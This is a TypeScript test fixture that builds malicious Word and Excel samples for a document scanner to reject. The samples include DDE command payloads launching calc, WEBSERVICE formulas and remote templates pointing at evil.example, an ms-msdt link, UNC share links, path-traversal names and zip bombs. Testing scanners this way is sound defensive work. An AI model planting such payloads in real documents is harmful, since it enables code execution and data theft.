import {
  archive,
  type Change,
  officeFile,
  officeMain,
  officeParts,
  type Part,
} from './archives.ts'
import { bytes, oldOffice, type Sample } from './sample-files.ts'

const damaged = /damaged|incomplete/
const inside = /contains another file/
const unpacks = /too large when decompressed/
const macros = /contains macros/
const odd = /does not belong in a document/
const linked = /is linked/
const password = /password/
const relation =
  'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const link = (type: string, target: string, mode = 'External', id = 'r9') =>
  `<Relationship Id="${id}" Type="${relation}/${type}" Target="${target}" TargetMode="${mode}"/>`
const part = (name: string, content: string | Buffer = 'x'): Part => ({
  name,
  content,
})
const externalLink = (xml: string) =>
  part('xl/externalLinks/externalLink1.xml', xml)
const parts: [string, Part, RegExp][] = [
  ['vba', part('word/vbaProject.bin'), macros],
  ['vba data', part('word/vbaData.xml'), macros],
  ['macro sheet', part('xl/macrosheets/sheet1.xml'), macros],
  ['activex', part('word/activeX/activeX1.xml'), macros],
  ['ole', part('word/embeddings/oleObject1.bin'), inside],
  [
    'embedded sheet',
    part('word/embeddings/Microsoft_Excel_Sheet.xlsx'),
    inside,
  ],
  ['exe', part('word/media/run.exe'), odd],
  ['script', part('word/run.js'), odd],
  ['nested zip', part('word/media/more.zip'), odd],
  ['nested rar', part('xl/more.rar'), odd],
  ['nested docx', part('word/other.docx'), odd],
  ['page', part('word/afchunk.html'), odd],
  ['odd binary', part('xl/some.bin'), odd],
  [
    'dde',
    externalLink(
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    ),
    linked,
  ],
  [
    'ole link',
    externalLink('<x:externalLink><x:oleLink/></x:externalLink>'),
    linked,
  ],
  [
    'program as picture',
    part('word/media/image9.png', 'MZ\x90\0'),
    /contains a program \(image9\.png\)/,
  ],
  [
    'program of an unknown kind',
    part('word/media/a.dat', 'MZ\x90\0'),
    /contains a program/,
  ],
  [
    'archive as picture',
    part('xl/media/image9.jfif', 'PK\x03\x04'),
    /contains an archive/,
  ],
  [
    'page as text',
    part('word/a.txt', '<!doctype html><script>1</script>'),
    /contains a web page/,
  ],
  [
    'macros as picture',
    part('xl/media/image9.emf', bytes('d0cf11e0a1b11ae1')),
    /contains an old Office file/,
  ],
  [
    'pdf as picture',
    part('word/media/image9.png', '%PDF-1.7'),
    /contains a PDF/,
  ],
  ['path out', part('../../evil.xml'), damaged],
  ['root path', part('/etc/evil.xml'), damaged],
  ['backslash', part('word\\evil.xml'), damaged],
]
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map(run).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const sheet = (cell: string) =>
  `<worksheet><sheetData><row><c>${cell}</c></row></sheetData></worksheet>`
const outside = /reads another file or program/
const reaches = /reads external data/
const starts = /starts a program/
/** Contents that are refused in a part of any name. */
const contents: [name: string, xml: string, why: RegExp][] = [
  [
    'picture field',
    field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" '),
    /INCLUDEPICTURE/,
  ],
  [
    'picture field in pieces',
    field(' INCL', 'UDE', 'PICTURE "file:///c:/a.png"'),
    outside,
  ],
  [
    'text field',
    `<w:p>${field('QUOTE "x"')}${field('includetext "c:/a.docx"')}</w:p>`,
    /INCLUDETEXT/,
  ],
  [
    'field in one',
    '<w:p><w:fldSimple w:instr=" IncludePicture a.png"/></w:p>',
    outside,
  ],
  ['dde field', field('DDEAUTO c:\\\\cmd.exe "/k calc"'), outside],
  [
    'web formula',
    sheet('<f>1+_xlfn.WEBSERVICE("https://evil.example")</f>'),
    /WEBSERVICE/,
  ],
  [
    'encoded web formula',
    sheet('<f>WEB&#83;ERV<!-- x -->ICE(A1)</f>'),
    reaches,
  ],
  [
    'web formula in CDATA',
    sheet('<x:f><![CDATA[WEBSERVICE(A1)]]></x:f>'),
    reaches,
  ],
  [
    'web formula by name',
    '<workbook><definedNames><definedName name="a">RTD("a")</definedName></definedNames></workbook>',
    reaches,
  ],
  ['dde formula', sheet(`<f>cmd|'/c calc'!A0</f>`), starts],
  [
    'connections',
    '<connections><connection id="1"/></connections>',
    /\(connections\)/,
  ],
  ['query', '<x:queryTable/>', /a query/],
  [
    'other book',
    '<externalLink><externalBook/></externalLink>',
    /linked to another workbook/,
  ],
]
/** Names of parts that [Content_Types].xml calls XML. */
const disguised = [
  'media/image9.png',
  'media/image9.svg',
  'media/image9.emf',
  'printerSettings/printerSettings1.bin',
]
const footer =
  'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml'
const override = (name: string, type = footer) =>
  `<Override PartName="/${name}" ContentType="${type}"/>`
const byDefault = (extension: string, type: string) =>
  `<Default Extension="${extension}" ContentType="${type}"/>`
const misnamed = /XML part with the wrong extension/
/** Refused changes to a Word or Excel file. */
const variants: Record<string, [change: Change, why: RegExp]> = {
  'xml of an encoded name': [
    { types: override('word/footer9.%70ng') },
    misnamed,
  ],
  'xml with a query': [{ types: override('word/footer9.png?.xml') }, misnamed],
  'xml with a parameter': [
    { types: override('a.png', 'APPLICATION/XML ; a=b') },
    misnamed,
  ],
  'drawing as picture': [
    { types: override('a.png', `${relation}.vmlDrawing`) },
    misnamed,
  ],
  'xml by default': [{ types: byDefault('png', footer) }, misnamed],
  'xml as svg by default': [
    { types: byDefault('svg', 'application/xml') },
    misnamed,
  ],
  'field in a name with a sign': [
    { parts: [part('word/a#.xml', field('INCLUDEPICTURE "a.png"'))] },
    /INCLUDEPICTURE/,
  ],
  'formula in vml': [
    {
      parts: [part('xl/worksheets/sheet1.vml', sheet('<f>WEBSERVICE(A1)</f>'))],
    },
    /WEBSERVICE/,
  ],
  'vml without an end': [
    { parts: [part('xl/drawings/a.vml', '<xml><p><br></xml>')] },
    damaged,
  ],
  'link behind a sign': [
    { links: link('oleObject', 'https://a.example/', 'External', 'a>b') },
    linked,
  ],
  'link behind encoded quotes': [
    {
      links: link(
        'oleObject',
        'a.bin',
        'Internal',
        '&#34; Type=&#34;x/hyperlink&#34; ',
      ),
    },
    linked,
  ],
  'links without an end': [{ links: '<Relationship '.repeat(9) }, damaged],
  'encoded macro type': [
    { types: override('v.xml', 'application/vnd.ms-office.vba&#80;roject') },
    macros,
  ],
  'template by link': [
    { links: link('attachedTemplate', 'https://evil.example/t.dotm') },
    /takes its template from another file/,
  ],
  'picture from a share': [
    { links: link('image', String.raw`\\evil\share\a.png`) },
    /image: \\\\evil/,
  ],
  'picture from a folder': [
    { links: link('image', 'file:///c:/a.png') },
    /image: file:/,
  ],
  'picture from the web': [
    { links: link('image', 'https://evil.example/a.png') },
    linked,
  ],
  'link to a share': [
    { links: link('hyperlink', String.raw`\\evil\share\a.doc`) },
    linked,
  ],
  'link to a file': [{ links: link('hyperlink', 'file:///c:/a.doc') }, linked],
  'strange encoding': [
    {
      parts: [
        part('docProps/a.xml', '<?xml version="1.0" encoding="utf-7"?><a/>'),
      ],
    },
    damaged,
  ],
  deep: [{ parts: [part('docProps/a.xml', '<a>'.repeat(100_000))] }, damaged],
  'object by link': [
    { links: link('oleObject', 'file:///c:/evil.exe') },
    linked,
  ],
  frame: [{ links: link('frame', 'https://evil.example') }, linked],
  'part by link': [{ links: link('aFChunk', 'evil.html', 'Internal') }, linked],
  'odd scheme': [
    { links: link('hyperlink', 'ms-msdt:/id PCWDiagnostic') },
    linked,
  ],
  'mhtml scheme': [
    { links: link('image', 'mhtml:https://evil.example!x') },
    linked,
  ],
  'macro type of a part': [
    {
      types: byDefault('dat', 'application/vnd.ms-office.vbaProject'),
      parts: [part('word/project.dat')],
    },
    macros,
  ],
  'macro sheet by link': [
    { links: link('xlMacrosheet', 'worksheets/sheet9.xml', 'Internal') },
    macros,
  ],
  'no types': [{ without: '[Content_Types].xml' }, /is an archive/],
  'other type': [
    { main: 'application/vnd.oasis.opendocument.text' },
    /is an archive/,
  ],
}

type Kind = keyof typeof officeMain

const toSample = (
  kind: Kind,
  name: string,
  content: Buffer,
  why: RegExp,
): Sample => ({ name: `${name}.${kind}`, bytes: content, why })

/** A file that has more parts. */
const withParts = (
  kind: Kind,
  name: string,
  why: RegExp,
  ...more: Part[]
): Sample => toSample(kind, name, archive([...officeParts(kind), ...more]), why)

function listHostileParts(kind: Kind): Sample[] {
  return [
    ...parts.map(([name, hostilePart, why]) =>
      withParts(kind, name, why, hostilePart),
    ),
    ...contents.map(([name, xml, why]) =>
      withParts(kind, name, why, part('customXml/item1.xml', xml)),
    ),
  ]
}

function listHostileFiles(kind: Kind): Sample[] {
  const pictureField = field('INCLUDEPICTURE "a.png"')
  const withChange = (name: string, change: Change, why: RegExp) =>
    toSample(kind, name, officeFile(kind, change), why)
  const macroMain = officeMain[kind]
    .replace('openxmlformats-officedocument', 'ms-word')
    .replace('+xml', '.macroEnabled+xml')
  return [
    ...disguised.map((name) => {
      const fileName = name.split('/').at(-1)
      const change = {
        types: override(name),
        parts: [part(name, pictureField)],
      }
      return withChange(`xml as ${fileName}`, change, misnamed)
    }),
    ...Object.entries(variants).map(([name, [change, why]]) =>
      withChange(name, change, why),
    ),
    withChange('macro type', { main: macroMain }, macros),
    ...['vml', 'VML', 'psmdcp'].map((extension) => {
      const change = {
        parts: [part(`word/document2.${extension}`, pictureField)],
      }
      return withChange(`field in ${extension}`, change, /INCLUDEPICTURE/)
    }),
  ]
}

const listLocked = (kind: Kind): Sample[] => [
  toSample(kind, 'locked', oldOffice(true), password),
  withParts(kind, 'locked part', password, {
    ...part('word/secret.xml'),
    flags: 0x0801,
  }),
  withParts(kind, 'strongly locked part', password, {
    ...part('word/secret.xml'),
    flags: 0x0841,
  }),
]

function listBombs(kind: Kind): Sample[] {
  const large = part('word/a.xml', Buffer.alloc(3 << 20))
  const huge = part('word/big.xml', Buffer.alloc(30 << 20))
  const manyParts = Array.from({ length: 5200 }, (_, index) =>
    part(`word/p${index}.xml`, ''),
  )
  return [
    withParts(kind, 'bomb', unpacks, huge),
    withParts(kind, 'bomb by its claimed size', unpacks, {
      ...part('word/big.xml'),
      claimedSize: 4_000_000_000,
    }),
    withParts(kind, 'bomb of many', /too many parts/, ...manyParts),
    withParts(kind, 'bomb of shared bytes', unpacks, large, {
      ...large,
      name: 'word/b.xml',
      sharesBytes: true,
    }),
  ]
}

function listDamaged(kind: Kind): Sample[] {
  const entities = part(
    '[Content_Types].xml',
    '<!DOCTYPE x [<!ENTITY a "b">]><Types/>',
  )
  const cut = officeFile(kind).subarray(0, 900)
  const withBytesBehind = archive(officeParts(kind), {
    behind: 'x'.repeat(70_000),
  })
  const split = Buffer.concat([bytes('504b0506'), Buffer.alloc(600, 0x41)])
  return [
    toSample(kind, 'entities', archive([entities]), damaged),
    withParts(kind, 'hidden length', damaged, {
      ...part('word/a.xml', 'ab'.repeat(4500)),
      claimedSize: 3,
      stored: true,
    }),
    withParts(kind, 'odd packing', damaged, {
      ...part('word/a.xml'),
      method: 99,
    }),
    withParts(kind, 'twice', damaged, part('[content_types].xml')),
    toSample(kind, 'cut', cut, damaged),
    toSample(kind, 'behind', withBytesBehind, damaged),
    toSample(kind, 'split', split, /archive/),
  ]
}

/** Word and Excel files that must be refused. */
export const hostileOffice: Sample[] = (['docx', 'xlsx'] as const).flatMap(
  (kind) => [
    ...listHostileParts(kind),
    ...listHostileFiles(kind),
    ...listLocked(kind),
    ...listBombs(kind),
    ...listDamaged(kind),
  ],
)
